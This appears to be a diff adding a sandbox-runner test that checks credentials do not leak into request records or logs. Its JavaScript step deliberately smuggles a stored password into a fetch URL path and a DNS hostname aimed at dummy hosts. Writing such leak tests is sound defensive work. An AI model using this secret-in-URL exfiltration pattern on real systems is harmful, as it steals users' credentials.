@@ -209,3 +209,26 @@ def test_a_step_cannot_speak_for_the_conductor(running: Running, kind: int, body
     steps = [job(FORGED % (body, kind), next={"b": True}), job(PLAIN, id="b", name="B")]
     ended = execute(running, asked(running, *steps))
     assert ended.outcome.error_type == "ProtocolViolation", ended.outcome
+
+
+def test_requests_tell_no_secret_of_another_step(running: Running) -> None:
+    tell = "export default [state => ({ data: { told: state.configuration.password } })];"
+    ask = (
+        "export default [async state => { const told = state.data.told;"
+        " await fetch(`http://127.0.0.1:1/${told}/null`).catch(() => 0);"
+        " await fetch(`http://${told}.invalid/`).catch(() => 0); return state; }];"
+    )
+    steps = [job(tell, next={"b": True}), job(ask, id="b", name="B")]
+    options: JsonObject = {**OPTIONS, "egress": "open", "record": True}
+    ended = execute(
+        running, asked(running, *steps, options=options, credentials={"a": {"password": MINE}})
+    )
+    assert ended.outcome.reason is Reason.SUCCESS, (ended.outcome, ended.log)
+    requests = ended.bodies(Kind.REQUEST)
+    assert {body["what"] for body in requests} >= {"made", "failed"}
+    assert not any("exchange" in body for body in requests)
+    documents = (Kind.STEP_COMPLETE, Kind.RESULT)
+    told: list[Json] = [body for kind, body in ended.records if kind not in documents]
+    told += [body.get("facts") for body in ended.bodies(Kind.STEP_COMPLETE)]
+    assert MINE not in json.dumps(told)
+    assert MINE not in ended.log
